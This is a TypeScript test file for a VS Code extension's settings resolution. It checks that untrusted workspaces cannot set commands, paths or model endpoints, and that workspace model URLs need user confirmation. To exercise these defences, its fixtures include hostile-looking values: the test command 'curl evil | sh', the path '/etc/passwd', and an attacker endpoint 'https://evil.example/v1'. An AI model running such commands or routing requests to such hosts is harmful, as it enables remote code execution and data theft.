import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { isKindError } from '../../../../src/core/kindError';
import { resolveSettings, SettingsError } from '../../../../src/core/promptEvolution/settings';
import { modelWriteTarget, resolveCandorSettings, RESTRICTED_SETTINGS, USER_ONLY_SETTINGS, type Inspected } from '../../../../src/core/settings/resolve';

type Layers = Record<string, Inspected<unknown>>;

const manifest = JSON.parse(fs.readFileSync(path.join(__dirname, '../../../../package.json'), 'utf8')) as {
  capabilities: { untrustedWorkspaces: { restrictedConfigurations: string[] } };
  contributes: { configuration: { properties: Record<string, { default?: unknown; scope?: string }> } };
};
const properties = manifest.contributes.configuration.properties;

/** What VS Code's inspect() reports: the manifest's default plus the given layers. */
function read(layers: Layers, trusted: boolean, confirmedUrls: string[] = []) {
  return resolveCandorSettings({
    inspect: <T>(key: string) => ({ defaultValue: properties[`candor.${key}`]?.default, ...layers[key] }) as Inspected<T>,
    trusted,
    confirmedUrls,
  });
}

describe('settings and trust', () => {
  it('the manifest restricts exactly the settings the host treats as restricted', () => {
    const declared = new Set(manifest.capabilities.untrustedWorkspaces.restrictedConfigurations);
    assert.deepEqual(declared, new Set(RESTRICTED_SETTINGS.map((key) => `candor.${key}`)));
  });

  it('the manifest declares "scope": "machine" on exactly the user-only settings', () => {
    const machine = Object.entries(properties).filter(([, p]) => p.scope === 'machine').map(([key]) => key);
    assert.deepEqual(new Set(machine), new Set(USER_ONLY_SETTINGS.map((key) => `candor.${key}`)));
  });

  it('defaults come from the manifest', () => {
    const s = read({}, true);
    assert.equal(s.testCommand, 'npm test');
    assert.equal(s.sandbox, 'required');
    assert.equal(s.openRepositoryInParentFolders, 'never');
    assert.equal(s.keepTurns, 4);
    assert.equal(s.repository, '');
  });

  it('an untrusted workspace cannot set commands, schedules, data folders or models; a trusted one can', () => {
    const layers: Layers = {
      'evolution.testCommand': { workspaceValue: 'curl evil | sh' },
      'evolution.intervalMinutes': { workspaceValue: 1 },
      dataDir: { workspaceValue: '/tmp/evil' },
      'memory.path': { workspaceFolderValue: '/etc/passwd' },
      models: { workspaceValue: ['free-model'] },
      keepTurns: { workspaceValue: 2 },
    };
    const untrusted = read(layers, false);
    assert.equal(untrusted.testCommand, 'npm test');
    assert.equal(untrusted.intervalMinutes, 0);
    assert.equal(untrusted.dataDir, '');
    assert.equal(untrusted.memoryPath, '');
    assert.deepEqual(untrusted.models, []);
    const trusted = read(layers, true);
    assert.equal(trusted.testCommand, 'curl evil | sh');
    assert.equal(trusted.intervalMinutes, 1);
    assert.equal(trusted.memoryPath, '/etc/passwd');
    assert.deepEqual(trusted.models, [{ model: 'free-model', source: 'workspace' }]);
  });

  it('user-only settings ignore a workspace value even in a trusted workspace', () => {
    const layers: Layers = {
      'evolution.sandbox': { workspaceValue: 'off', globalValue: 'required' },
      'evolution.repository': { workspaceValue: '/home/victim/project' },
      'git.openRepositoryInParentFolders': { workspaceFolderValue: 'always' },
    };
    for (const trusted of [true, false]) {
      const s = read(layers, trusted);
      assert.equal(s.sandbox, 'required');
      assert.equal(s.repository, '');
      assert.equal(s.openRepositoryInParentFolders, 'never');
    }
    assert.equal(read({ 'evolution.sandbox': { globalValue: 'off' } }, true).sandbox, 'off');
  });

  it('a workspace model entry with a URL is offered only after that URL is confirmed, and stays in the workspace', () => {
    const layers: Layers = { models: { globalValue: ['gpt-4o'], workspaceValue: ['evil-model @ https://evil.example/v1', 'local-model'] } };
    const before = read(layers, true);
    assert.deepEqual(before.models.map((m) => m.model), ['gpt-4o', 'local-model'], 'the user entry comes first; the unconfirmed URL is not offered');
    assert.deepEqual(before.pendingUrls, ['https://evil.example/v1']);
    const after = read(layers, true, ['https://evil.example/v1']);
    const evil = after.models.find((m) => m.model === 'evil-model');
    assert.deepEqual(evil, { model: 'evil-model', baseUrl: 'https://evil.example/v1', source: 'workspace' });
    assert.equal(modelWriteTarget(evil), 'workspace', 'a workspace URL is never written to the user settings');
    assert.equal(modelWriteTarget({ baseUrl: 'https://api.example/v1', source: 'user' }), 'global');
    assert.deepEqual(read(layers, false).pendingUrls, [], 'an untrusted workspace is not even asked about');
  });

  it('a workspace baseUrl is used only when trusted and confirmed; meanwhile the user value holds', () => {
    const layers: Layers = { baseUrl: { globalValue: 'https://api.openai.com/v1', workspaceValue: 'https://evil.example/v1' } };
    assert.equal(read(layers, false).baseUrl, 'https://api.openai.com/v1');
    const pending = read(layers, true);
    assert.equal(pending.baseUrl, 'https://api.openai.com/v1');
    assert.deepEqual(pending.pendingUrls, ['https://evil.example/v1']);
    const confirmed = read(layers, true, ['https://evil.example/v1']);
    assert.equal(confirmed.baseUrl, 'https://evil.example/v1');
    assert.equal(confirmed.baseUrlSource, 'workspace');
  });

  it('values of the wrong type fall back instead of leaking through', () => {
    const s = read({ contextWindow: { globalValue: 'lots' }, 'evolution.sandbox': { globalValue: 'sometimes' }, models: { globalValue: 'not-a-list' } }, true);
    assert.equal(s.contextWindow, 128000);
    assert.equal(s.sandbox, 'required');
    assert.deepEqual(s.models, []);
  });

  it('prompt evolution\'s settings come through the snapshot: folder over workspace over user, a bad value kept for its check to name', () => {
    const s = read({ 'promptEvolution.candidates': { globalValue: 6, workspaceValue: 8 }, 'promptEvolution.alpha': { workspaceValue: 'high' } }, false);
    assert.equal(s.promptEvolution.candidates, 8);
    assert.equal(s.promptEvolution.minTasks, properties['candor.promptEvolution.minTasks']?.default);
    assert.throws(() => resolveSettings(s.promptEvolution), (err: unknown) => isKindError(err, SettingsError) && err.setting === 'alpha' && /got high/.test(err.message));
    assert.equal(resolveSettings(read({ 'promptEvolution.candidates': { globalValue: 6, workspaceValue: 8 } }, false).promptEvolution).candidates, 8);
  });
});
